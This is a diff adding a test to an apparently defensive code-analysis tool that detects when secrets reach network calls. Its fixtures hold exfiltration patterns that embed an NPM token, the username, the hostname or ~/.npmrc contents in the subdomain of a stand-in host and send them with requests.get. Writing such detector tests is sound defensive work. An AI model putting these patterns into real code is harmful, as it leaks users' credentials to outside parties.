@@ -4,9 +4,10 @@ import ast
 
 import pytest
 
+from pratique.analysis.facts import Capability
 from pratique.analysis.languages.python.behind import asks_with_data, carries_data, connects
 from pratique.analysis.languages.python.evaluate import At
-from tests.analysis.languages.python.reading import evaluated
+from tests.analysis.languages.python.reading import evaluated, facts
 
 CARRIES = [
     "'https://far.invalid/?d=' + x",
@@ -67,3 +68,20 @@ def test_who_looks_up_to_connect_connects() -> None:
     _, index, _ = evaluated("s.connect(a)")
     assert connects(index.module)
     assert not connects(evaluated("s.close()")[1].module)
+
+
+@pytest.mark.parametrize(
+    ("data", "told"),
+    [
+        ("os.environ['NPM_TOKEN']", True),
+        ("os.environ['USER']", True),
+        ("socket.gethostname()", True),
+        ("open(os.path.expanduser('~/.npmrc')).read()", True),
+        ("os.environ['AWS_REGION']", False),
+        ("sys.argv[1]", False),
+    ],
+)
+@pytest.mark.parametrize("address", ["f'https://a.{E}.far.invalid/'", "'https://a.' + E + '.far.invalid'"])
+def test_what_is_no_setting_is_carried_in_the_midst_of_a_host(data: str, told: bool, address: str) -> None:
+    source = f"import os, requests, socket, sys\nE = {data}\nrequests.get({address})\n"
+    assert told is any(flow.sink is Capability.NETWORK for flow in facts(source).flows)
